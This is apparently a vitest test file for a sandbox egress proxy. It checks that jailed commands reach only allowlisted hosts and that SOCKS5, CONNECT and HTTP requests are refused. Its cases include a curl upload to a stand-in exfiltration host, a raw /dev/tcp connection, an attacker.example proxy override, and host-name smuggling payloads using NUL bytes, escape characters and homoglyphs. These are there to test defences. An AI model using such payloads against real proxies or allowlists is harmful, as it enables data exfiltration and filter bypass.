// A network-class jail through the egress proxy, with real bwrap, the bridge helper (Python) and curl against servers on the
// host's loopback. Each case checks from outside what reached the host: the allowed server answers
// through the proxy; every other host, port and protocol is refused (a host_denied violation the gate
// turns into a card) or has no route at all, and the host's loopback is never reached directly.
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import type { Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Executor } from '../../executor/run';
import type { JailViolation } from '../../executor/types';
import { jailFixture, type JailFixture } from '../support/jail';

let fx: JailFixture;
let ex: Executor;
let allowed: HttpServer;
let other: HttpServer;
let allowedPort = 0;
let otherPort = 0;
const hits = { allowed: 0, other: 0, udp: 0 };
const udp = createSocket('udp4');
// Long enough for the helper to splice a plain HTTP body (executor/egress/forward.ts SPLICE_MIN_BYTES).
const big = Buffer.alloc(8 * 1024 * 1024 + 3, 'threshold egress ');
const bigSha = createHash('sha256').update(big).digest('hex');
let udpPort = 0;
/** Every name the proxy asked the resolver for. */
const resolved: string[] = [];
/** A non-loopback address of this machine, standing for a host an attacker runs (what a truncated name would reach). */
const collectorAddress = Object.values(networkInterfaces())
  .flat()
  .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
let collector: HttpServer | null = null;
let collectorHits = 0;

const listen = async (s: HttpServer) => {
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return (s.address() as { port: number }).port;
};

beforeAll(async () => {
  fx = await jailFixture();
  // Names resolve at the proxy; here one table stands for DNS (the machine has none to rely on).
  ex = new Executor({
    home: fx.home,
    appDirs: [fx.configDir, fx.dataDir],
    // Read as getaddrinfo reads a name: a C string, up to the first NUL. Every name asked is recorded.
    resolveHost: async (asked) => {
      resolved.push(asked);
      const h = asked.split('\0')[0]!;
      return h === 'localhost' || h === 'rebind.test' || h === '127.0.0.1' ? ['127.0.0.1'] : h === 'collector.evil' && collectorAddress ? [collectorAddress] : [];
    },
  });
  allowed = createHttpServer((req, res) => {
    hits.allowed++;
    if (req.url === '/big') return void res.writeHead(200, { 'content-length': big.length }).end(big);
    res.end(`allowed server: ${req.method} ${req.url}`);
  });
  allowed.on('upgrade', (req, socket: Socket) => {
    hits.allowed++;
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: ${req.headers.upgrade}\r\nConnection: Upgrade\r\n\r\n`);
    socket.on('data', (d: Buffer) => socket.end(`echo:${d.toString()}`));
  });
  other = createHttpServer((_req, res) => {
    hits.other++;
    res.end('other server');
  });
  allowedPort = await listen(allowed);
  otherPort = await listen(other);
  if (collectorAddress) {
    collector = createHttpServer((_q, r) => {
      collectorHits++;
      r.end('collector');
    });
    await new Promise<void>((r) => collector!.listen(allowedPort, collectorAddress, r));
  }
  udp.on('message', () => hits.udp++);
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;
});

afterAll(async () => {
  ex.dispose();
  collector?.close();
  allowed.close();
  other.close();
  udp.close();
  await fx.close();
});

interface Case {
  name: string;
  script: () => string;
  hosts: () => string[];
  expected: () => { exit: number; stdout: string; hits: typeof hits; denied: string[] };
}

const none = { allowed: 0, other: 0, udp: 0 };

const cases: Case[] = [
  {
    name: 'a plain HTTP request to the allowed address goes through the proxy',
    script: () => `curl -sS --noproxy '' http://127.0.0.1:${allowedPort}/plain`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /plain', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'a long plain HTTP body (spliced by the bridge helper) arrives byte for byte',
    script: () => `printf %s "$(curl -sS --noproxy '' http://127.0.0.1:${allowedPort}/big | sha256sum | cut -c1-64)"`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: bigSha, hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'a long body through a CONNECT tunnel arrives byte for byte',
    script: () => `printf %s "$(curl -sS --noproxy '' --proxytunnel http://127.0.0.1:${allowedPort}/big | sha256sum | cut -c1-64)"`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: bigSha, hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'a tunnelled (CONNECT) request to the allowed address goes through the proxy',
    script: () => `curl -sS --noproxy '' --proxytunnel http://127.0.0.1:${allowedPort}/tunnel`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /tunnel', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'SOCKS5 with the host name resolved at the proxy reaches the allowed host',
    script: () => `curl -sS --noproxy '' --socks5-hostname 127.0.0.1:3128 http://localhost:${allowedPort}/socks`,
    hosts: () => [`localhost:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /socks', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'another port of the same address is refused and reported',
    script: () => `curl -sS --noproxy '' http://127.0.0.1:${otherPort}/`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: `Threshold's sandbox, not the task, blocked the connection to 127.0.0.1:${otherPort}: 127.0.0.1:${otherPort} is not on the allowed hosts ([network] allow_hosts) and no grant covers it. Through the proxy, loopback is the host computer's, which no card opens (the user may name it in [network] allow_hosts); a server this command started inside the sandbox is reached without the proxy (curl --noproxy '*', or NO_PROXY=127.0.0.1,localhost).\n`, hits: none, denied: [`127.0.0.1:${otherPort}`] }),
  },
  {
    name: 'an HTTPS host not on the allowlist is refused at CONNECT',
    script: () => 'curl -sS https://exfil.example/upload',
    hosts: () => ['registry.npmjs.org'],
    expected: () => ({ exit: 56, stdout: '', hits: none, denied: ['exfil.example:443'] }),
  },
  {
    name: 'a name that resolves to the host loopback is refused even when allowed',
    script: () => `curl -sS --socks5-hostname 127.0.0.1:3128 http://rebind.test:${allowedPort}/`,
    hosts: () => [`rebind.test:${allowedPort}`],
    expected: () => ({ exit: 97, stdout: '', hits: none, denied: [`rebind.test:${allowedPort}`] }),
  },
  {
    name: "the host's loopback is not reachable directly (the jail's 127.0.0.1 is its own)",
    script: () => `curl -sS --noproxy '*' http://127.0.0.1:${allowedPort}/direct`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 7, stdout: '', hits: none, denied: [] }),
  },
  {
    name: 'no direct TCP to the outside: there is no route',
    script: () => 'exec 3<>/dev/tcp/1.1.1.1/443',
    hosts: () => ['*.example'],
    expected: () => ({ exit: 1, stdout: '', hits: none, denied: [] }),
  },
  {
    name: 'no UDP reaches the host',
    script: () => `echo x > /dev/udp/127.0.0.1/${udpPort}; python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', ${udpPort}))"; sleep 0.2`,
    hosts: () => ['*.example'],
    expected: () => ({ exit: 0, stdout: '', hits: none, denied: [] }),
  },
  {
    name: 'a granted loopback address is reached by a plain curl, through the proxy (NO_PROXY does not send it around)',
    script: () => `curl -sS http://127.0.0.1:${allowedPort}/granted`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /granted', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'localhost granted by name with its port is reached by a plain curl, through the proxy',
    script: () => `curl -sS http://localhost:${allowedPort}/by-name`,
    hosts: () => [`localhost:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /by-name', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: "without a grant, a plain curl to the host's loopback gets the proxy's refusal, with how to reach the jail's own",
    script: () => `curl -sS http://127.0.0.1:${otherPort}/`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({
      exit: 0,
      stdout: `Threshold's sandbox, not the task, blocked the connection to 127.0.0.1:${otherPort}: 127.0.0.1:${otherPort} is not on the allowed hosts ([network] allow_hosts) and no grant covers it. Through the proxy, loopback is the host computer's, which no card opens (the user may name it in [network] allow_hosts); a server this command started inside the sandbox is reached without the proxy (curl --noproxy '*', or NO_PROXY=127.0.0.1,localhost).\n`,
      hits: none,
      denied: [`127.0.0.1:${otherPort}`],
    }),
  },
  {
    name: "a server the command starts inside the jail is reached on the jail's own loopback with --noproxy",
    script: () => `python3 -c "import http.server as h; s = h.HTTPServer(('127.0.0.1', ${otherPort}), h.SimpleHTTPRequestHandler); s.handle_request()" & for i in $(seq 50); do curl -sf --noproxy '*' -o /dev/null http://127.0.0.1:${otherPort}/ && printf reached && break; sleep 0.1; done; wait`,
    hosts: () => [],
    expected: () => ({ exit: 0, stdout: 'reached', hits: none, denied: [] }),
  },
  {
    name: 'an Upgrade sent through the plain-HTTP proxy to an allowed host is relayed (101, then a tunnel)',
    script: () => `python3 -c "
import socket
s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
s.sendall(b'GET http://127.0.0.1:${allowedPort}/ws HTTP/1.1\\r\\nHost: 127.0.0.1:${allowedPort}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')
head = b''
while b'\\r\\n\\r\\n' not in head: head += s.recv(1)
s.sendall(b'frame')
print(head.split(b'\\r\\n')[0].decode(), s.recv(100).decode())
"`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'HTTP/1.1 101 Switching Protocols echo:frame\n', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'an Upgrade to a host not allowed gets a 403 from the proxy, not silence',
    script: () => `python3 -c "
import socket
s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
s.sendall(b'GET http://127.0.0.1:${otherPort}/ws HTTP/1.1\\r\\nHost: x\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')
print(s.recv(100).split(b'\\r\\n')[0].decode())
"`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'HTTP/1.1 403 Forbidden\n', hits: none, denied: [`127.0.0.1:${otherPort}`] }),
  },
  {
    name: 'no DNS inside the jail: names resolve only at the proxy',
    script: () => 'getent hosts registry.npmjs.org',
    hosts: () => ['registry.npmjs.org'],
    expected: () => ({ exit: 2, stdout: '', hits: none, denied: [] }),
  },
];

describe('a network-class jail goes out only through the egress proxy', () => {
  it.each(cases)('$name', async (c) => {
    hits.allowed = hits.other = hits.udp = 0;
    const r = await ex.run({ argv: ['bash', '-c', c.script()], cwd: fx.workspace, env: process.env, jail: { class: 'network', workspace: fx.workspace, allowHosts: c.hosts() } });
    const denied = r.violations.filter((v: JailViolation) => v.kind === 'host_denied').map((v) => v.target);
    expect({ exit: r.exitCode, stdout: r.stdout.text, hits: { ...hits }, denied }).toEqual(c.expected());
  });

  it('sets the proxy variables for the command, pointing at the bridge inside the jail', async () => {
    const r = await ex.run({ argv: ['sh', '-c', 'env | grep -i _proxy= | sort'], cwd: fx.workspace, env: { ...process.env, HTTPS_PROXY: 'http://attacker.example:1' }, envAllow: ['HTTPS_PROXY'], jail: { class: 'network', workspace: fx.workspace } });
    expect(r.stdout.text.trim().split('\n')).toEqual([
      'ALL_PROXY=socks5h://127.0.0.1:3128',
      'HTTPS_PROXY=http://127.0.0.1:3128',
      'HTTP_PROXY=http://127.0.0.1:3128',
      'NO_PROXY=',
      'all_proxy=socks5h://127.0.0.1:3128',
      'http_proxy=http://127.0.0.1:3128',
      'https_proxy=http://127.0.0.1:3128',
      'no_proxy=',
    ]);
  });

  it('reports what the proxy let through and refused with the result', async () => {
    const r = await ex.run({
      argv: ['bash', '-c', `curl -s --noproxy '' http://127.0.0.1:${allowedPort}/a >/dev/null; curl -s https://blocked.example/ >/dev/null; true`],
      cwd: fx.workspace,
      env: process.env,
      jail: { class: 'network', workspace: fx.workspace, allowHosts: [`127.0.0.1:${allowedPort}`] },
    });
    expect(r.egress).toEqual({
      allowed: [`127.0.0.1:${allowedPort}`],
      refused: [{ host: 'blocked.example', port: 443, protocol: 'connect', kind: 'not_allowed', reason: 'blocked.example:443 is not on the allowed hosts ([network] allow_hosts) and no grant covers it' }],
    });
  });
});

// The SOCKS5 NUL family, sent by a real client in the jail (Python writing the protocols' bytes) in each
// protocol's name field. With `*.allowed.test:PORT` allowed, every name is refused before it reaches the
// resolver, and nothing reaches the host a truncated name would have named.
const CLIENT = String.raw`
import binascii, socket, sys
proto, port = sys.argv[1], int(sys.argv[2])
for i, hexname in enumerate(sys.argv[3:]):
    name = binascii.unhexlify(hexname)
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    try:
        if proto == 'socks5':
            s.sendall(b'\x05\x01\x00')
            s.recv(2)
            s.sendall(b'\x05\x01\x00\x03' + bytes([len(name)]) + name + port.to_bytes(2, 'big'))
            r = s.recv(10)
            answer = 'socks reply %d' % r[1] if len(r) > 1 else 'closed'
        else:
            line = b'CONNECT ' + name + b':%d HTTP/1.1\r\n\r\n' % port if proto == 'connect' else b'GET http://' + name + b':%d/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' % port
            s.sendall(line)
            answer = s.recv(200).split(b'\r\n')[0].decode() or 'closed'
    except Exception as e:
        answer = 'error ' + type(e).__name__
    print(i, answer)
    s.close()
`;

const FAMILY: { name: string; host: string }[] = [
  { name: 'a NUL that ends the name for the C resolver', host: '127.0.0.1\0.allowed.test' },
  { name: 'a NUL hiding another host before the allowed suffix', host: 'collector.evil\0.allowed.test' },
  { name: 'an escape character', host: 'collector.evil\u001b.allowed.test' },
  { name: 'a space', host: 'collector.evil .allowed.test' },
  { name: 'a percent-encoded NUL', host: 'collector.evil%00.allowed.test' },
  { name: 'a 64-character label', host: `${'a'.repeat(64)}.allowed.test` },
  { name: 'a 254-character name', host: `${'a.'.repeat(120)}${'a'.repeat(1)}.allowed.test`.padStart(254, 'b') },
  { name: 'two dots in a row', host: 'collector..allowed.test' },
  { name: 'two trailing dots', host: 'x.allowed.test..' },
  { name: 'a Cyrillic а below the allowed suffix', host: 'x\u0430.allowed.test' },
  { name: 'a full-width dot', host: 'collector\uff0eevil.allowed.test' },
  { name: 'an ideographic full stop', host: 'collector\u3002evil.allowed.test' },
];

describe('a jailed client cannot smuggle a name past the check in any protocol', () => {
  const refusedAnswer = { socks5: 'socks reply 2', connect: 'HTTP/1.1 400 Bad Request', http: 'HTTP/1.1 400 Bad Request' } as const;

  it.each((['socks5', 'connect', 'http'] as const).map((protocol) => ({ protocol })))('$protocol: every name of the NUL family is refused, none reaches the resolver, nothing reaches the collector', async ({ protocol }) => {
    resolved.length = 0;
    collectorHits = 0;
    hits.allowed = 0;
    const hexes = FAMILY.map((f) => Buffer.from(f.host, 'utf8').toString('hex'));
    const r = await ex.run({ argv: ['python3', '-c', CLIENT, protocol, String(allowedPort), ...hexes], cwd: fx.workspace, env: process.env, jail: { class: 'network', workspace: fx.workspace, allowHosts: [`*.allowed.test:${allowedPort}`] } });
    const answers = r.stdout.text.trim().split('\n').map((l) => l.replace(/^\d+ /, ''));
    expect({ answers: Object.fromEntries(FAMILY.map((f, i) => [f.name, answers[i]])), resolved, collectorHits, allowedHits: hits.allowed, refusals: r.egress?.refused.length }).toEqual({
      answers: Object.fromEntries(FAMILY.map((f) => [f.name, refusedAnswer[protocol]])),
      resolved: [],
      collectorHits: 0,
      allowedHits: 0,
      refusals: FAMILY.length,
    });
  });
});
